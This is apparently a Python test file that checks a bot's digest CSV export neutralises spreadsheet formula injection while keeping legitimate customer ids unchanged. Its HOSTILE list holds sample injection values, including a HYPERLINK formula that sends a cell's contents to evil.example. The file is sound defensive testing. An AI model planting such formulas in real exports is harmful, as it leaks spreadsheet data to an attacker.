"""The digest's CSV opens safely in a spreadsheet: ids written by another tool that start like a formula
are neutralised, and legitimate ids (`C-10042`, dashes inside) are written as they are; on both databases."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from bot.features.digest.blocks import ListWriter
from bot.spreadsheet import safe_cell, safe_lines, safe_rows
from models import Database
from models.digest.queries import stuck_snapshot
from tests.digest.conftest import FULL_SCOPE, NOW, Customers

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
LEGITIMATE = ["C-10042", "C-1-2", "A=B", "x@y"]


def test_hostile_ids_are_neutralised_and_legitimate_ones_kept(db: Database, customers: Customers) -> None:
    for customer_id in [*HOSTILE, *LEGITIMATE]:
        customers.add(customer_id, authorizations=(("active", NOW - 20 * timedelta(days=1), FULL_SCOPE, None),))
    listing = ListWriter(keep=0)
    with db.transaction() as session:
        stuck_snapshot(session, NOW, listing=listing)
    text = listing.csv_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    first_cells = [row[0] for row in rows[1:] if row]
    # Every hostile id reads back behind a quote mark; the CR one too (csv.writer leaves a lone CR unquoted,
    # so a reader splits that line, but its first cell is still "'").
    assert {"'" + c for c in HOSTILE if c != "\rCR"} | {"'"} <= set(first_cells)
    assert set(LEGITIMATE) <= set(first_cells)  # written exactly as they are
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in first_cells)


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("C-10042", "C-10042"), ("", ""), (None, ""), (42, "42"), ("a=b", "a=b"),
])
def test_safe_cell(cell: object, safe: str) -> None:
    assert safe_cell(cell) == safe


def test_safe_lines_touch_only_risky_cells() -> None:
    lines = ["C-10042,SCE,scope,REAUTH,3,2026-11-27 09:00", '"=a,b",SCE,x', "-5,@x,C-1"]
    assert safe_lines(lines) == ["C-10042,SCE,scope,REAUTH,3,2026-11-27 09:00", '"\'=a,b",SCE,x', "'-5,'@x,C-1"]
    clean = lines[:1]
    assert safe_lines(clean) is clean  # a clean list is returned as it is, after one search
    assert safe_rows([["=x", "C-1"]]) == "'=x,C-1\n"
